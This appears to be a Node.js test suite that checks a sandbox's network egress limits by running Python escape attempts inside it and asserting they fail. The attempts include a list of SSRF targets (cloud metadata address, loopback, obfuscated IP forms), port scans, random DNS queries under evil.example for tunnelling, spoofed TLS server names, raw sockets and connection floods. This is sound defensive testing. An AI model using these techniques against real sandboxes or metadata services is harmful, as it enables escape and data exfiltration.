// A15: a program in a box with a network tries to reach more than the hosts it
// was given. Servers on this machine are the judges: nobody came, or no more
// than the limit.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { networkInterfaces } from 'node:os';
import { createServer } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { dockerd, noDocker } from '../lib/dockerd.mjs';
import { Hosts, NetBox, loadPython } from '../lib/egress.mjs';
import { processesOf } from '../lib/outside.mjs';
import { Home, eventually, noNative } from '../lib/sessions.mjs';

const skips = { native: noNative ? `needs ${noNative}` : false, docker: noDocker, 'far docker': noDocker };

const refused = (what) => ['ECONNREFUSED', 'ECONNRESET', 'EPIPE', 'ENOTCONN'].includes(what);

// far: the engine is reached over TCP, so the connections come over a stream
for (const driver of ['native', 'docker', 'far docker']) describe(`A15: a ${driver} box with a network`, { skip: skips[driver] }, () => {
  const hosts = new Hosts();
  const seen = [];
  let engine, box, port, live = 0, most = 0, took = 0;

  before(async () => {
    port = await hosts.tcp((s) => {
      most = Math.max(most, ++live);
      s.on('data', (d) => { took += d.length; }).on('close', () => live--);
      s.pipe(s);
    });
    if (driver !== 'native') {
      engine = await dockerd({ far: driver === 'far docker' });
      await loadPython(engine, 'python:1');
    }
    box = await NetBox.open({ allow: [`api.test=127.0.0.1:${port}`, '*.wild.test:443'], maxConnections: 20,
      maxMegabytes: 8, idleSeconds: 2 }, engine ? { engine: { host: engine.far ?? engine.host }, image: 'python:1' } : {});
  }, { timeout: 120_000 });
  after(async () => {
    await box?.close();
    hosts.close();
    engine?.cleanUp();
  });

  test('addresses of this machine and of others', async (t) => {
    const own = Object.values(networkInterfaces()).flat().map((a) => a.address);
    const open = [];
    t.after(() => open.forEach((s) => s.close()));
    for (const at of ['127.0.0.2', ...own.filter((a) => a !== '127.0.0.1')]) {
      const s = createServer((c) => { seen.push(at); c.destroy(); });
      s.on('error', () => {}); // an address that cannot be bound
      s.listen(port, at);
      open.push(s);
    }
    const targets = ['127.0.0.1', '127.0.0.2', '0.0.0.0', '169.254.169.254', '10.0.0.1', '192.168.0.1', '172.16.0.1',
      '100.64.0.1', '8.8.8.8', '198.18.0.1', '198.19.255.255', '224.0.0.1', '255.255.255.255', '::1', '::',
      '::ffff:127.0.0.1', '64:ff9b::7f00:1', '2002:7f00:1::', 'fe80::1', 'fd00:ec2::254', '2606:4700::1111',
      '0x7f000001', '2130706433', '127.1', 'localhost', 'box', ...own];
    const got = await box.python(`print(json.dumps([tcp(h, ${port}, b'x') for h in ${JSON.stringify(targets)}]))`);
    got.forEach((what, i) => assert.ok(what !== 'x' && what !== '', `${targets[i]}: ${what}`));
    assert.deepEqual(seen, []);
  });

  test('ports that no entry has', async () => {
    const open = await box.python(`
ok = []
for p in list(range(1, 12000)) + [${port}, 65535]:
    s = socket.socket()
    s.settimeout(5)
    if s.connect_ex(('10.1.2.3', p)) != errno.ECONNREFUSED: ok.append(p)
    s.close()
print(json.dumps(ok))`);
    assert.deepEqual(open.sort((a, b) => a - b), [53, 443, port].sort((a, b) => a - b));
  });

  test('names as a way out', async () => {
    const got = await box.python(`
def ask(server, name, kind, tcp=False):
    q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'
    for label in name.split('.'): q += bytes([len(label)]) + label.encode()
    q += b'\\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    a = s.recv(2000)
    return [a[3] & 15, a[7]]
out = []
for i in range(300):
    out.append(ask(['127.0.0.1', '8.8.8.8'][i % 2], os.urandom(20).hex() + '.evil.example', [1, 28, 16, 10, 255, 65][i % 6]))
print(json.dumps(out))`);
    for (const answer of got) assert.deepEqual(answer, [3, 0]);
  });

  test('bytes that are no DNS', async () => {
    assert.equal(await box.python(`
import random
random.seed(7)
for i in range(3000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(random.randbytes(random.randrange(0, 1500)), ('127.0.0.1', 53))
    s.close()
for i in range(100):
    tcp('127.0.0.1', 53, random.randbytes(random.randrange(0, 70000)))
print(json.dumps(next((x for x in (tcp('api.test', ${port}, b'still here') for i in range(5)) if x == 'still here'), 'never')))`), 'still here');
  });

  test('TLS that names another host, or none', async () => {
    const before = took;
    const got = await box.python(`
import ssl
def hello(name):
    c = ssl.create_default_context(); c.check_hostname = False
    o = ssl.MemoryBIO()
    try: c.wrap_bio(ssl.MemoryBIO(), o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: pass
    return o.read()
def slow(data):
    try:
        s = socket.create_connection(('api.test', ${port}))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(len(data)): s.send(data[i:i+1])
        return s.recv(1).decode('latin1')
    except OSError as e: return name(e)
def records(data, n):
    return b''.join(b'\\x16\\x03\\x01' + struct.pack('>H', len(data[i:i+n])) + data[i:i+n] for i in range(0, len(data), n))
evil = hello('evil.test')
long = bytearray(hello('api.test')); long[6:9] = b'\\x00\\xff\\xff'
print(json.dumps([tcp('api.test', ${port}, d) for d in [
    evil, hello(None), records(evil[5:], 3), bytes(long) + b'\\0' * 40000, evil[:100],
    b'\\x16\\x03\\x01\\x00\\x00', b'\\x16', hello('api.test.evil.test'), hello('wapi.test')]] + [slow(evil)]))`);
    got.forEach((what, i) => assert.ok(refused(what), `${i}: ${what.slice(0, 80)}`));
    assert.equal(took, before);
  });

  test('protocols that are not TCP', async (t) => {
    const udp = createSocket('udp4', (m) => seen.push(String(m)));
    t.after(() => udp.close());
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    const got = await box.python(`
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((host, port)); s.send(b'quic'); s.recv(10)
    except OSError as e: return name(e)
def made(*args):
    try: socket.socket(*args).close(); return 'made'
    except OSError as e: return name(e)
print(json.dumps({'udp': [udp('127.0.0.1', ${udp.address().port}), udp('1.1.1.1', 443)],
    'sockets': [made(socket.AF_INET, socket.SOCK_RAW, 1), made(socket.AF_INET, socket.SOCK_STREAM, 132),
        made(socket.AF_INET, socket.SOCK_STREAM, 262), made(socket.AF_NETLINK, socket.SOCK_RAW, 0),
        made(socket.AF_PACKET, socket.SOCK_RAW, 0), made(40, socket.SOCK_STREAM, 0),
        made(socket.AF_INET, socket.SOCK_DGRAM, 1)]}))`);
    assert.deepEqual(got.udp, ['ECONNREFUSED', 'ECONNREFUSED']);
    assert.deepEqual([...new Set(got.sockets)], ['EPERM']);
    assert.deepEqual(seen, []);
  });

  test('10,000 connections, and 200 at a time', async () => {
    most = 0;
    const got = await box.python(`
ip = socket.getaddrinfo('api.test', ${port}, socket.AF_INET)[0][4][0]
for i in range(10000):
    s = socket.socket()
    s.connect_ex((ip, ${port}))
    s.close()
held, echoed = [], 0
for i in range(200):
    s = socket.socket()
    s.connect_ex((ip, ${port}))
    held.append(s)
for s in held:
    try:
        s.settimeout(10); s.send(b'x'); echoed += len(s.recv(1))
    except OSError: pass
print(json.dumps(echoed))`);
    assert.ok(got <= 20, `${got} of 200 worked`);
    assert.ok(most <= 20, `${most} at the host at a time`);
    await eventually('all are gone', () => live === 0);
    assert.match(await box.run('echo fine'), /fine/);
  });

  test('a connection that is held for ever', async () => {
    assert.equal(await box.python(`
for i in range(5): # until the host answers before it is called idle
    try:
        s = socket.create_connection(('api.test', ${port})); s.send(b'x')
        if s.recv(1) == b'x': break
    except OSError: pass
try: s.recv(1); print(json.dumps('end'))
except OSError as e: print(json.dumps(name(e)))`), 'ECONNRESET');
  });

  test('a connection that is never idle', async (t) => {
    const short = await NetBox.open({ allow: [`api.test=127.0.0.1:${port}`], maxSeconds: 2 });
    t.after(() => short.close());
    assert.equal(await short.python(`
s = socket.create_connection(('api.test', ${port}))
try:
    while True: s.send(b'x'); s.recv(1)
except OSError as e: print(json.dumps(name(e)))`), 'ECONNRESET');
  });

  test('more bytes than allowed', async () => {
    took = 0;
    const got = await box.python(`
def flood():
    sent, s = 0, socket.create_connection(('api.test', ${port}))
    s.setblocking(False)
    import select
    while True:
        r, w, _ = select.select([s], [s], [])
        try:
            if r and not s.recv(1 << 16): return 'end'
            if w: sent += s.send(b'x' * (1 << 16))
        except BlockingIOError: pass
        except OSError as e: return name(e)
print(json.dumps([flood(), tcp('api.test', ${port}, b'x')]))`);
    got.forEach((what) => assert.ok(refused(what), what));
    assert.ok(took <= 8 << 20, `${took} bytes arrived`);
  });
});

describe('A15: the network of a session', { skip: skips.native }, () => {
  const hosts = new Hosts();
  let home, port;
  after(() => {
    home?.removeAll();
    hosts.close();
  });

  test('is the same after a restart of the server, of the box\'s program and of both', async (t) => {
    const seen = [];
    port = await hosts.http((q, r) => r.end('here'));
    const other = createServer((c) => { seen.push('127.0.0.2'); c.destroy(); }).listen(port, '127.0.0.2');
    t.after(() => other.close());
    home = new Home({ sandbox: { driver: 'native', warm: 0, memoryMb: 128, cpus: 1, pids: 32,
      network: { allow: [`a.test=127.0.0.1:${port}`] } } });
    const attack = async (s) => {
      const tried = [`a.test:${port}`, `b.test:${port}`, `127.0.0.1:${port}`, `127.0.0.2:${port}`, `169.254.169.254:${port}`,
        `[::1]:${port}`, `[::ffff:127.0.0.2]:${port}`, 'a.test:443', 'a.test:22'];
      const got = await s.sh('h', tried.map((h) => `curl -s -m 20 http://${h}/ || echo no`).join('; echo; '));
      assert.deepEqual(got.split('\n').filter(Boolean), ['here', ...tried.slice(1).map(() => 'no')]);
    };
    const endProgram = async (s) => {
      const uid = (await s.sh('h', 'id -u')).trim();
      for (const pid of processesOf(uid)) try { process.kill(Number(pid), 'SIGKILL'); } catch { /* gone */ }
      await s.next((e) => e.ev === 'lost');
      s.tell('use', { h: 'h' });
      assert.equal((await s.next((e) => e.ev === 'used')).why, null);
    };
    let s = await home.server();
    const { box } = await s.hold('h', 's1');
    await attack(s);
    for (const programToo of [false, true]) {
      await s.kill();
      s = await home.server();
      assert.equal((await s.hold('h', 's1')).box, box); // adopted
      await attack(s);
      if (programToo) await endProgram(s);
      await attack(s);
    }
    assert.deepEqual(seen, []);
    assert.equal(await s.close(), 0);
  });
});

describe('a box that asks', { skip: skips.native }, () => {
  const hosts = new Hosts();
  let box, port, came = 0;
  before(async () => {
    port = await hosts.tcp((s) => { came++; s.end(); });
    box = await NetBox.open({ allow: [`127.0.0.2:${port}`], ask: true, maxConnections: 64 },
      { hosts: { 'private.ask': '127.0.0.1' } });
  });
  after(async () => {
    await box?.close();
    hosts.close();
  });
  const pending = () => JSON.parse(box.home.run('approvals', 'list', '--json'));

  test('many hosts, many names, and no answer: few questions, nobody reached', async () => {
    const said = box.python(`
held, names, ends = [], 0, []
for i in range(200):
    s = socket.socket()
    s.settimeout(30)
    try:
        s.connect(('h%d.private.ask' % i, ${port})); s.send(b'GET /%d HTTP/1.1\\r\\n' % i)
    except OSError: pass
    held.append(s)
for s in held:
    s.setblocking(False)
while len(ends) < 150:
    for s in list(held):
        try:
            s.recv(1); ends.append('end'); held.remove(s)
        except BlockingIOError: pass
        except OSError as e: ends.append(name(e)); held.remove(s)
for i in range(5000):
    try: socket.getaddrinfo('n%d.tunnel.ask' % i, 80); names += 1
    except OSError: pass
open('waiting', 'w').close()
while not os.path.exists('stop'): pass
print(json.dumps([names, sorted(set(ends))]))`);
    await eventually('the names are used up', async () => /waiting/.test(await box.run('ls')), 55_000);
    const asked = pending();
    assert.ok(asked.length > 0 && asked.length <= 8, `${asked.length} questions`);
    for (const q of asked) assert.match(JSON.stringify([q.args.host, q.request]), /^\["h\d+\.private\.ask","GET \/\d+"\]$/);
    await box.run('touch stop');
    const [names, ends] = await said;
    assert.ok(names < 2100, `${names} names`);
    ends.forEach((what) => assert.ok(refused(what), what));
    assert.equal(came, 0);
    await eventually('no question is left', () => pending().length === 0);
  });

  test('private addresses, and TLS that names no host: no question', async () => {
    const got = await box.python(`
print(json.dumps([tcp(ip, ${port}, b'GET / HTTP/1.1\\r\\n') for ip in
  ['127.0.0.1', '10.0.0.1', '169.254.169.254', '::1', '::ffff:10.0.0.1', '64:ff9b::a00:1', '198.18.9.9']]
  + [tcp('h0.private.ask', ${port}, bytes.fromhex('160301002c01000028') + bytes(40))]))`);
    got.forEach((what) => assert.ok(refused(what), what));
    assert.deepEqual(pending(), []);
    assert.equal(came, 0);
  });
});
